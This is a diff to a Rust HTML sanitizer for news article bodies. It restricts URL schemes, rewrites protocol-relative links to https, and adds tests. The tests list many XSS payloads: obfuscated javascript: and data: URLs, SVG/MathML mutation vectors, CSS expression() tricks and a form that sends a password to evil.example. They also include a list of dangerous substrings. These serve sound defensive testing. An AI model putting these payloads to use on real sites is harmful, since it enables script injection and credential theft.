@@ -1,9 +1,19 @@
 //! Article bodies are HTML, sanitized on write to an allow-list fit for news copy: paragraphs,
 //! headings, lists, links, emphasis, quotes, figures and images. Scripts, styles, iframes,
 //! event handlers and `javascript:` URLs never reach the database.
+//!
+//! URLs (`href`, `src`, `cite`) are `http`, `https` or `mailto`, or relative. A protocol-relative
+//! one (`//host/path`) is rewritten to `https://host/path`: linking off-site is normal in news
+//! copy, but the scheme should not depend on the page that embeds the body.
 
+use std::borrow::Cow;
 use std::collections::HashSet;
 use std::sync::LazyLock;
+
+use ammonia::url::{ParseError, Url};
+
+/// The schemes a URL in a body may have; anything else (`javascript:`, `data:`, ...) is removed.
+const URL_SCHEMES: [&str; 3] = ["http", "https", "mailto"];
 
 static BODY_CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
     let tags: HashSet<&str> = [
@@ -68,10 +78,49 @@ static BODY_CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
             .into_iter()
             .collect(),
         )
-        .url_schemes(["http", "https", "mailto"].into_iter().collect())
+        .url_schemes(URL_SCHEMES.into_iter().collect())
+        .url_relative(ammonia::UrlRelative::Custom(Box::new(relative_url)))
+        .attribute_filter(filter_attribute)
         .link_rel(Some("noopener noreferrer"));
     builder
 });
+
+/// A relative `href` or `src` as browsers will read it, or `None` to drop it. Browsers drop tabs
+/// and newlines, trim leading spaces and controls, and take `\` for `/`; what they read is what
+/// is checked.
+fn relative_url(url: &str) -> Option<Cow<'_, str>> {
+    let read: String = url
+        .trim_start_matches(|c: char| c <= ' ')
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .map(|c| if c == '\\' { '/' } else { c })
+        .collect();
+    if let Some(rest) = read.strip_prefix("//") {
+        // Protocol-relative: another host. Made explicit https, dropped if there is no host.
+        let absolute = format!("https://{rest}");
+        let has_host = Url::parse(&absolute).is_ok_and(|u| u.host().is_some());
+        return has_host.then_some(Cow::Owned(absolute));
+    }
+    // A colon in the first segment reads as a scheme to some parsers (RFC 3986 4.2 forbids it in
+    // a relative reference), so such a URL is not left for them to guess at.
+    let first_segment = read.split(['/', '?', '#']).next().unwrap_or_default();
+    if first_segment.contains(':') {
+        return None;
+    }
+    Some(Cow::Borrowed(url))
+}
+
+/// Attributes ammonia does not treat as URLs but readers may follow: `cite` gets the same rules.
+fn filter_attribute<'a>(element: &str, attribute: &str, value: &'a str) -> Option<Cow<'a, str>> {
+    match (element, attribute) {
+        ("blockquote" | "q", "cite") => match Url::parse(value) {
+            Ok(url) if URL_SCHEMES.contains(&url.scheme()) => Some(Cow::Borrowed(value)),
+            Err(ParseError::RelativeUrlWithoutBase) => relative_url(value),
+            _ => None,
+        },
+        _ => Some(Cow::Borrowed(value)),
+    }
+}
 
 /// The body with everything outside the allow-list removed.
 pub fn sanitize_body(html: &str) -> String {
@@ -160,6 +209,127 @@ mod tests {
             assert!(!clean.contains(bad), "{bad} survived in {clean}");
         }
         assert!(clean.contains("<p>Hi</p>"));
+    }
+
+    /// Fails when the cleaned `dirty` still holds something a browser would run, load or send.
+    #[track_caller]
+    fn assert_inert(dirty: &str) -> String {
+        let clean = sanitize_body(dirty);
+        let lower = clean.to_ascii_lowercase();
+        for live in [
+            "javascript",
+            "vbscript",
+            "data:",
+            "<script",
+            "<svg",
+            "<math",
+            "<form",
+            "<input",
+            "<button",
+            "<style",
+            "style=",
+            "onload",
+            "onerror",
+            "onclick",
+            "onbegin",
+            "action=",
+            "xlink",
+            "href=\"//",
+            "src=\"//",
+            "href=\"/\\",
+            "expression(",
+            "url(",
+        ] {
+            assert!(!lower.contains(live), "`{live}` survived {dirty:?} as {clean:?}");
+        }
+        clean
+    }
+
+    #[test]
+    fn script_urls_are_removed_however_they_are_spelled() {
+        for dirty in [
+            r#"<a href="JaVaScRiPt:alert(1)">a</a>"#,
+            r#"<a href="javascript&#58;alert(1)">a</a>"#,
+            r#"<a href="javascript&colon;alert(1)">a</a>"#,
+            r#"<a href="&#106;&#x61;vascript:alert(1)">a</a>"#,
+            r#"<a href="java&#9;script:alert(1)">a</a>"#,
+            "<a href=\"java\nscript:alert(1)\">a</a>",
+            r#"<a href="  javascript:alert(1)">a</a>"#,
+            r#"<a href="&#0;javascript:alert(1)">a</a>"#,
+            r#"<img src="JAVASCRIPT:alert(1)" alt="a">"#,
+            r#"<a href="vbscript:msgbox(1)">a</a>"#,
+            r#"<img src="VBScript:msgbox(1)" alt="a">"#,
+            r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>"#,
+            r#"<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="a">"#,
+            r#"<blockquote cite="javascript:alert(1)">q</blockquote>"#,
+            r#"<q cite="data:text/html,x">q</q>"#,
+        ] {
+            assert_inert(dirty);
+        }
+        assert_eq!(
+            assert_inert(r#"<a href="JaVaScRiPt:alert(1)">a</a>"#),
+            r#"<a rel="noopener noreferrer">a</a>"#
+        );
+    }
+
+    #[test]
+    fn svg_math_and_forms_are_removed() {
+        for dirty in [
+            r#"<svg onload="alert(1)"><circle r="1"></circle></svg>"#,
+            r#"<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>"#,
+            r#"<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>"#,
+            r#"<svg><set attributeName="onmouseover" to="alert(1)"></set></svg>"#,
+            r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
+            r#"<math href="javascript:alert(1)">m</math>"#,
+            r#"<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>"#,
+            r#"<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>"#,
+            r#"<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>"#,
+            r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
+        ] {
+            assert_inert(dirty);
+        }
+    }
+
+    #[test]
+    fn css_never_survives() {
+        for dirty in [
+            r#"<p style="background:url(javascript:alert(1))">p</p>"#,
+            r#"<p style="width:expression(alert(1))">p</p>"#,
+            r#"<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>"#,
+            r#"<style>p { background: url(https://evil.example/track.gif) }</style><p>p</p>"#,
+            r#"<link rel="stylesheet" href="https://evil.example/x.css"><p>p</p>"#,
+        ] {
+            assert_inert(dirty);
+        }
+    }
+
+    #[test]
+    fn protocol_relative_urls_become_explicit_https() {
+        for (dirty, href) in [
+            (r#"<a href="//evil.example/x">a</a>"#, "https://evil.example/x"),
+            (r#"<a href="/\evil.example/x">a</a>"#, "https://evil.example/x"),
+            (r#"<a href="\\evil.example/x">a</a>"#, "https://evil.example/x"),
+            (
+                r#"<a href="/&#9;/evil.example/x">a</a>"#,
+                "https://evil.example/x",
+            ),
+            (r#"<a href=" //evil.example">a</a>"#, "https://evil.example"),
+        ] {
+            let clean = assert_inert(dirty);
+            assert!(
+                clean.contains(&format!(r#"href="{href}""#)),
+                "{dirty:?} -> {clean}"
+            );
+        }
+        let clean = assert_inert(r#"<img src="//cdn.example/a.jpg" alt="a">"#);
+        assert!(clean.contains(r#"src="https://cdn.example/a.jpg""#), "{clean}");
+        // Links within the site stay as they are.
+        let clean = sanitize_body(
+            r##"<a href="/sections/world">w</a><a href="page#top">p</a><a href="#notes">n</a>"##,
+        );
+        for href in ["/sections/world", "page#top", "#notes"] {
+            assert!(clean.contains(&format!(r#"href="{href}""#)), "{clean}");
+        }
     }
 
     #[test]
